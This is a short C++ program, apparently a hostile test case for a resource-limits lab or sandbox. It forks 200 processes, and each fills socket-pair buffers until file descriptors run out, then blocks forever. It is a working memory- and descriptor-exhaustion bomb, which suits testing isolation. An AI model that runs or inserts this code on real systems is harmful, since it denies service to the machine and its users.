// Hostile: takes memory that no process has, in the buffers of sockets that nobody reads: some 200 KB each.
// Bomb: takes long to be ended.
// Lab: 01
// Earns:
// Says: too many open descriptors
#include "announce.hpp"

int main() {
  const std::string text(1024, 'x');
  for (int child = 0; child < 200; ++child) {
    if (::fork() != 0) continue;
    int ends[2];
    while (::socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0)
      for (const int end : ends)
        while (::write(end, text.data(), text.size()) > 0) continue;
    for (;;) ::pause();
  }
  for (;;) ::pause();
}
